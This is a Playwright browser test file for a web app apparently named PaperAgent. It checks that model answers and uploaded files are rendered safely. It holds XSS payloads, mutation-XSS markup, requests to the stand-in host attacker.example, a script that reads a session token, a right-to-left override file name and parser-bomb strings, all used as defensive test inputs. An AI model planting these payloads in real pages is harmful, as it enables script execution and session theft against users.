import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, expect } from '@jest/globals';
import type { Browser, BrowserContextOptions, Page } from 'playwright-core';
import { launchBrowser } from '../../scripts/support/browser.ts';
import { say, type Visitor, visit } from '../../scripts/support/page.ts';
import { type Script, textReply } from '../../src/demo-model/reply.ts';
import { lastWords } from '../../src/demo-model/said.ts';
import { seriousFindings } from '../support/axe.ts';
import { testWith } from '../support/needs.ts';
import { startTestSystem, type TestSystem } from '../support/system.ts';

const test = testWith('browser');

const HIT = 'globalThis.attacked = true';

/** What a model or a file may hold, and a page must not do. */
const attacks = [
  `<script>${HIT}</script>`,
  `<img src=x onerror="${HIT}">`,
  `<svg onload="${HIT}"><script>${HIT}</script><a xlink:href="javascript:${HIT}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${HIT}&gt;">`,
  `<a href="javascript:${HIT}">html link</a> [markdown link](javascript:${HIT}) [data](data:text/html,<script>${HIT}</script>)`,
  `<iframe src="https://attacker.example/frame"></iframe><object data="https://attacker.example/o"></object>`,
  `<form action="https://attacker.example/form"><input name=p><button>send</button></form>`,
  '<style>body { background: url(https://attacker.example/css) } * { display: none }</style>',
  '![remote](https://attacker.example/pixel.png) <img src="//attacker.example/two.png" srcset="https://attacker.example/3 2x">',
  '<video src="https://attacker.example/v" autoplay></video><link rel=stylesheet href="https://attacker.example/s">',
  `<div id="app" class="fixed inset-0 z-50" style="position:fixed;inset:0">cover</div>`,
  `$\\href{javascript:${HIT}}{x}$ $\\includegraphics{https://attacker.example/katex.png}$ $\\htmlData{x=y}{z}$`,
  '$\\def\\a{\\a\\a\\a}\\a$ $$\\rule{1000000em}{1000000em}$$',
  '| a |\n|---|\n| <details open ontoggle="globalThis.attacked = true">x</details> |',
  '[x]: javascript:alert(1)\n\n[x]',
  '<table background="https://attacker.example/table"><tr><td background="//attacker.example/cell">cell</td></tr></table>',
  '<body background="https://attacker.example/body"><dialog open>Sign in again</dialog><template><img src="https://attacker.example/t"></template>',
  '<img src="images/a.png" usemap="#m" longdesc="https://attacker.example/l"><map name="m"><area href="https://attacker.example/a" ping="https://attacker.example/p"></map>',
  '<p popover id="pop" style="background:url(https://attacker.example/b)">x</p><button popovertarget="pop">y</button>',
  '<a href="https://example.org" ping="https://attacker.example/ping">pinged</a>',
].join('\n\n');
/** What takes a careless parser minutes. */
const bombs = [
  '*'.repeat(20_000),
  '['.repeat(20_000),
  `${'>'.repeat(2_000)} deep`,
  `${'<div>'.repeat(3_000)}deep`,
  `${'`'.repeat(5_000)} a`,
  `$${'{'.repeat(3_000)}$`,
].join('\n\n');

const script: Script = (request) => {
  const asked = lastWords(request.messages);
  if (asked === 'attack') return textReply(`${attacks}\n\nEnd of attacks.`);
  if (asked === 'bombs') return textReply(`${bombs}\n\nEnd of bombs.`);
  if (asked === 'refuse') return { kind: 'http', status: 401 };
  if (asked === 'endless') return textReply('Once upon a time', { finish: 'length' });
  if (asked === 'later') {
    return { kind: 'http', status: 429, headers: { 'retry-after': '20' }, body: '{}' };
  }
  return textReply(`Heard: ${asked}. With $x^2$ and a [link](https://example.org).`);
};

let system: TestSystem;
let browser: Browser;

beforeAll(async () => {
  [system, browser] = await Promise.all([startTestSystem({ script }), launchBrowser()]);
  await system.startWorker();
});

afterAll(async () => {
  await browser.close();
  await system.close();
});

async function work(
  options: BrowserContextOptions = {},
): Promise<{ visitor: Visitor; workId: string; page: Page }> {
  const visitor = await visit(browser, system.url, options);
  const workId = await system.newWork(visitor);
  return { visitor, workId, page: await visitor.open(`/works/${workId}`) };
}

function put(visitor: Visitor, workId: string, file: string, text: string): Promise<Response> {
  return fetch(`${system.url}/api/works/${workId}/files/${file}`, {
    method: 'PUT',
    headers: { authorization: `Bearer ${visitor.token}` },
    body: text,
  });
}

/** What the browser was made to do by what it shows, or kept from doing by the page's policy: nothing is to be asked. */
async function watch(page: Page): Promise<string[]> {
  const wrong: string[] = [];
  await page.exposeFunction(
    'refusedByPolicy',
    (what: string) => void wrong.push(`refused by policy: ${what}`),
  );
  // Parsing an untrusted text to make it safe already names its inline handlers, which are then taken off.
  await page.addInitScript(`addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
    if (blockedURI !== 'inline') refusedByPolicy(violatedDirective + ' ' + blockedURI);
  })`);
  page.on('request', (request) => {
    if (!request.url().startsWith(system.url) && !/^(?:blob|data):/.test(request.url()))
      wrong.push(request.url());
  });
  page.on('dialog', (dialog) => {
    wrong.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('popup', (popup) => wrong.push(popup.url()));
  return wrong;
}

async function expectHarmless(page: Page, wrong: string[]): Promise<void> {
  expect(wrong).toEqual([]);
  expect(await page.evaluate('globalThis.attacked')).toBeUndefined();
  const left = await page.evaluate(`[...document.querySelectorAll('.markdown *')].filter((element) =>
    /^(?:script|iframe|object|embed|form|input|style|link|video|audio|base|meta|dialog|template|map|area|button)$/i.test(element.tagName) ||
    [...element.attributes].some(({ name, value }) => /^on/i.test(name) || /^\\s*javascript:/i.test(value))
  ).map((element) => element.outerHTML.slice(0, 120))`);
  expect(left).toEqual([]);
}

test('A8, SR-L2: an answer and a paper full of attacks run nothing, ask nothing of elsewhere, and cover nothing', async () => {
  const { visitor, workId, page } = await work();
  const wrong = await watch(page);
  await put(visitor, workId, 'paper.md', `# Paper\n\n${attacks}\n\nEnd of the paper.`);
  await say(page, 'attack');
  await page.getByText('End of attacks.').waitFor();
  await page.reload();
  await page.getByText('End of the paper.').waitFor();
  await page.getByText('End of attacks.').waitFor();
  await page.locator('.markdown .katex').first().waitFor();
  await page.getByRole('region', { name: 'Paper', exact: true }).getByText('html link').click();
  await expectHarmless(page, wrong);
  // Still the page's own: nothing lies over it.
  await page.getByRole('button', { name: 'Edit', exact: true }).click();
  await page.getByRole('textbox', { name: 'Text of the paper' }).waitFor();
  await visitor.context.close();
});

test('A8: an SVG with a script is an image and nothing else', async () => {
  const { visitor, workId, page } = await work();
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="40" onload="${HIT}"><script>${HIT}</script><rect width="90" height="40"/><image href="https://attacker.example/i.png"/></svg>`;
  await put(visitor, workId, 'images/drawn.svg', svg);
  const wrong = await watch(page);
  await page.reload();
  await page.getByRole('button', { name: /^drawn\.svg/ }).click();
  await page.getByRole('img', { name: 'images/drawn.svg' }).waitFor();
  await page.getByRole('button', { name: 'Enlarge images/drawn.svg' }).click();
  await page.getByRole('dialog').getByRole('img').waitFor();
  await expectHarmless(page, wrong);
  await visitor.context.close();
});

test('A8, SR-H2: whoever opens the address of what the page shows as an image finds no script of the app’s origin, and no session', async () => {
  const { visitor, workId, page } = await work();
  // Says by its own attributes who ran it, and what it could read.
  const hostile = `const root = document.documentElement;
    root.setAttribute('data-ran-as', location.origin);
    try { root.setAttribute('data-read', localStorage.getItem('paperagent.session')); } catch {}`;
  const files: Record<string, string> = {
    'images/fig.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="40"><script>${hostile}</script></svg>`,
    'images/page.html': `<!doctype html><html><script>${hostile}</script></html>`,
    'images/named.png': `<!doctype html><html><script>${hostile}</script></html>`,
    'images/doc.xhtml': `<html xmlns="http://www.w3.org/1999/xhtml"><script>${hostile}</script></html>`,
    'images/doc.xml': `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${hostile}</x:script>`,
    'images/doc.pdf': '%PDF-1.4',
  };
  const names = Object.keys(files);
  for (const name of names) await put(visitor, workId, name, files[name] ?? '');
  const figures = names.map((name) => `![${name}](${name})`).join('\n\n');
  await put(visitor, workId, 'paper.md', `${figures}\n\nEnd of the figures.`);
  await page.reload();
  await page.getByText('End of the figures.').waitFor();
  await page.locator('img[data-path="images/fig.svg"][src]').waitFor();
  await page.locator('img[data-path="images/named.png"][src]').waitFor();
  await page.getByRole('button', { name: /^fig\.svg/ }).click();
  await page.getByRole('button', { name: 'Enlarge images/fig.svg' }).click();
  await page.getByRole('dialog').getByRole('img').waitFor();
  const addresses = (await page.evaluate(
    `[...document.querySelectorAll('[src], [href], [data]')]
       .flatMap((element) => [element.src, element.href, element.data])
       .filter((address) => /^(?:blob|data|filesystem):/.test(address))`,
  )) as string[];
  // The SVG in the paper, in its preview and enlarged, and the one that calls itself a PNG.
  expect(addresses.length).toBeGreaterThanOrEqual(4);
  for (const address of new Set(addresses)) {
    const tab = await visitor.context.newPage();
    await tab.goto(address);
    const found = (await tab.evaluate(
      `({ origin: location.origin, ran: document.documentElement.dataset.ranAs ?? document.documentElement.getAttribute('data-ran-as'),
          read: document.documentElement.getAttribute('data-read') })`,
    )) as { origin: string; ran: string | null; read: string | null };
    expect([address.slice(0, 30), found.ran === system.url, found.read]).toEqual([
      address.slice(0, 30),
      false,
      null,
    ]);
    await tab.close();
  }
  await visitor.context.close();
});

test('SR-L1: a name that turns its own letters around is shown as what it is, in the tree, the title and the download', async () => {
  const { visitor, workId, page } = await work();
  const name = 'report\u202efdp.exe';
  // As code leaves it: no person may give a file such a name.
  await writeFile(path.join(system.dataDir, 'workspaces', workId, name), 'x');
  await system.request(visitor, 'PATCH', `/api/works/${workId}`, { title: 'Work \u202etxt.' });
  await page.reload();
  await page.getByRole('button', { name: 'report[U+202E]fdp.exe', exact: true }).click();
  await page.getByRole('button', { name: 'Work [U+202E]txt.' }).waitFor();
  expect(await page.title()).toBe('Work [U+202E]txt. · PaperAgent');
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download report[U+202E]fdp.exe' }).click(),
  ]);
  expect(download.suggestedFilename()).not.toContain('\u202e');
  expect(await page.locator('body').textContent()).not.toContain('\u202e');
  const list = await visitor.open('/');
  await list.getByRole('link', { name: 'Work [U+202E]txt.' }).waitFor();
  await visitor.context.close();
});

test('A8: Markdown and TeX that take a careless parser minutes leave the page usable', async () => {
  const { visitor, page } = await work();
  await say(page, 'bombs');
  await page.getByText('End of bombs.').waitFor();
  const began = Date.now();
  await say(page, 'still there?');
  await page.getByText('Heard: still there?').waitFor();
  expect(Date.now() - began).toBeLessThan(10_000);
  await visitor.context.close();
});

test('U8: a refused key and a limit of the provider say what happened, when it is tried again and what to do', async () => {
  const { visitor, page } = await work();
  await say(page, 'refuse');
  const card = page.getByRole('alert').filter({ hasText: 'This turn failed' });
  await card.getByText('Put a valid key into the model’s settings').waitFor();
  await card.getByRole('button', { name: 'Try again' }).waitFor();
  await say(page, 'later');
  await page.getByText(/Trying again in 1\d s: the model provider’s rate limit is reached/).waitFor();
  await page.getByRole('button', { name: 'Stop', exact: true }).click();
  await page.getByText('Stopped').first().waitFor();
  await visitor.context.close();
});

test('U8, U14: on a Chinese page failures and retries are told in Chinese, the server’s words are a detail', async () => {
  const { visitor, page } = await work({ locale: 'zh-CN' });
  const message = page.getByRole('textbox', { name: '消息', exact: true });
  await message.fill('refuse');
  await page.keyboard.press('Enter');
  const card = page.getByRole('alert').filter({ hasText: '本轮失败' });
  await card.getByText('模型密钥被拒绝').waitFor();
  const words = card.getByText(/refused the API key/);
  expect(await words.isVisible()).toBe(false);
  await card.getByText('服务器返回的信息').click();
  await words.waitFor();
  await message.fill('later');
  await page.keyboard.press('Enter');
  await page.getByText(/1\d s 后重试：模型服务商暂时不再接受请求/).waitFor();
  await visitor.context.close();
});

test('U8: an answer that the model’s length limit cut off says so, and still does after a reload', async () => {
  const { visitor, page } = await work();
  await say(page, 'endless');
  await page.getByText('Once upon a time').waitFor();
  const note = page.getByText('Cut off here: the model reached the length');
  await note.waitFor();
  await page.reload();
  await note.waitFor();
  await visitor.context.close();
});

test('U14: no serious finding of axe on the sign-in page, the list, a Work, its editor and a figure, light and dark, wide and narrow, in both languages', async () => {
  const findings: string[] = [];
  async function check(page: Page, where: string): Promise<void> {
    findings.push(...(await seriousFindings(page)).map((finding) => `${where}: ${finding}`));
  }
  for (const look of [
    { locale: 'en-US', colorScheme: 'light', viewport: { width: 1440, height: 900 } },
    { locale: 'zh-CN', colorScheme: 'dark', viewport: { width: 390, height: 844 } },
  ] as const) {
    const { visitor, workId, page } = await work(look);
    const name = `${look.colorScheme} ${look.viewport.width}`;
    await put(
      visitor,
      workId,
      'images/a.svg',
      '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>',
    );
    await put(
      visitor,
      workId,
      'paper.md',
      '# T\n\n![fig](images/a.svg)\n\n| a | b |\n|---|---|\n| 1 | $x$ |\n',
    );
    await page.reload();
    const chinese = look.locale === 'zh-CN';
    await page.getByRole('textbox', { name: chinese ? '消息' : 'Message', exact: true }).fill('hello');
    await page.keyboard.press('Enter');
    await page.getByText('Heard: hello').waitFor();
    await check(page, `${name} work`);
    if (chinese) await page.getByRole('tab', { name: '论文' }).click();
    await page
      .getByRole('button', { name: chinese ? '编辑' : 'Edit', exact: true })
      .last()
      .click();
    await page.locator('.cm-content').waitFor();
    await check(page, `${name} editor`);
    await page.keyboard.press('Control+k');
    await page.getByRole('combobox').waitFor();
    await page.getByRole('option').first().waitFor();
    await check(page, `${name} palette`);
    await page.keyboard.press('Escape');
    await visitor.open('/').then((list) =>
      list
        .getByRole('heading', { level: 1 })
        .waitFor()
        .then(() => check(list, `${name} list`)),
    );
    const stranger = await browser.newContext(look);
    const signIn = await stranger.newPage();
    await signIn.goto(system.url);
    await signIn.getByRole('button').first().waitFor();
    await check(signIn, `${name} sign-in`);
    await stranger.close();
    await visitor.context.close();
  }
  expect(findings).toEqual([]);
});

test('U2, U14: on a phone the panes are tabs, nothing is wider than the screen, and the chosen tab is remembered', async () => {
  const { visitor, page } = await work({
    viewport: { width: 360, height: 740 },
    hasTouch: true,
    isMobile: true,
  });
  const fits = () => page.evaluate('document.documentElement.scrollWidth <= innerWidth');
  await say(page, 'hello');
  await page.getByText('Heard: hello').waitFor();
  expect(await fits()).toBe(true);
  for (const tab of ['Files', 'Paper']) {
    await page.getByRole('tab', { name: tab }).click();
    expect(await fits()).toBe(true);
  }
  await page.reload();
  await page.getByRole('tab', { name: 'Paper', selected: true }).waitFor();
  await page.goto(system.url);
  await page.getByRole('heading', { level: 1 }).waitFor();
  expect(await fits()).toBe(true);
  await visitor.context.close();
});
